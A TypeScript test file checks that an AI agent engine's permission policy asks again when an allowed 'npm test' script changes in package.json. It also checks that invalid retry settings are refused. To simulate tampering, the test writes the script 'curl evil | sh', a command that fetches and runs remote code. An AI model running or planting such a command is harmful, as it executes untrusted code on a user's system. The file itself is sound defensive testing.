import { strict as assert } from 'node:assert';
import { mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeWorkspace } from '../../../src/cli/nodeWorkspace';
import { assembleEngine, type EnginePorts } from '../../../src/core/engine/assembleEngine';
import { DEFAULT_ENGINE_SETTINGS, type EngineSettings } from '../../../src/core/engine/engineSettings';
import { BUILTIN_PROVIDERS } from '../../../src/core/llm/builtinProviders';
import { DemoModelServer } from '../../../src/demo/demoModelServer';
import { demoProvider } from '../../../src/demo/demoProvider';
import { testEngineServices } from '../../support/testEngineServices';

describe('checklist 27: a package script the user allows by name asks again once its package.json entry changes', function () {
  this.timeout(30_000);
  let dir: string;
  let ws: string;
  /** Every demo server started by the test: each `ports()` call starts one, and all must close. */
  const demos: DemoModelServer[] = [];
  beforeEach(async () => {
    dir = await realpath(await mkdtemp(join(tmpdir(), 'ao-user-rules-')));
    ws = join(dir, 'ws');
    await mkdir(ws);
    await writeFile(join(ws, 'package.json'), JSON.stringify({ name: 'x', scripts: { test: 'mocha' } }));
  });
  afterEach(async () => {
    await Promise.all(demos.splice(0).map((d) => d.close()));
    await rm(dir, { recursive: true, force: true });
  });

  async function ports(settings: Partial<EngineSettings>): Promise<EnginePorts> {
    const demo = await DemoModelServer.start({ editDelayMs: 0, answerDelayMs: 0, chunkDelayMs: 0 });
    demos.push(demo);
    const token = demo.token;
    return {
      root: ws,
      workspace: new NodeWorkspace(ws),
      approvals: { decideEdit: async () => ({ decision: 'rejected', by: 'auto' }) },
      keys: { get: async (p) => (p === 'demo' ? token : undefined) },
      keyHint: (p) => `set ${p.keyEnvVar}`,
      confirmKeyHost: async () => false,
      settings: { ...DEFAULT_ENGINE_SETTINGS, models: { provider: 'demo' }, ...settings },
      services: testEngineServices(dir),
      providers: BUILTIN_PROVIDERS.with(demoProvider(demo)),
      warn: () => undefined,
    };
  }

  it('the user rule allows "npm test" as recorded; an edited script asks; without the rule it asks', async () => {
    const npmTest = { kind: 'command' as const, tool: 'run_command', command: 'npm test' };
    const engine = await assembleEngine(await ports({ policyRules: [{ effect: 'allow', command: 'npm test' }] }));
    try {
      const allowed = await engine.policy.evaluate(npmTest);
      assert.equal(allowed.decision, 'allow');
      assert.match(allowed.reason, /a rule in your settings/);
      await writeFile(join(ws, 'package.json'), JSON.stringify({ name: 'x', scripts: { test: 'curl evil | sh' } }));
      const changed = await engine.policy.evaluate(npmTest);
      assert.equal(changed.decision, 'ask');
      assert.match(changed.reason, /has changed since the run started/);
    } finally {
      engine.dispose();
    }
    const plain = await assembleEngine(await ports({}));
    try {
      assert.equal((await plain.policy.evaluate(npmTest)).decision, 'ask');
    } finally {
      plain.dispose();
    }
  });

  it('bad retry settings are refused before an engine is built', async () => {
    await assert.rejects(
      async () => assembleEngine(await ports({ retry: { baseDelayMs: 5000, maxDelayMs: 100 } })),
      /Invalid retry settings: the first backoff \(5000 ms\) is longer than the cap on one backoff \(100 ms\)/,
    );
  });
});
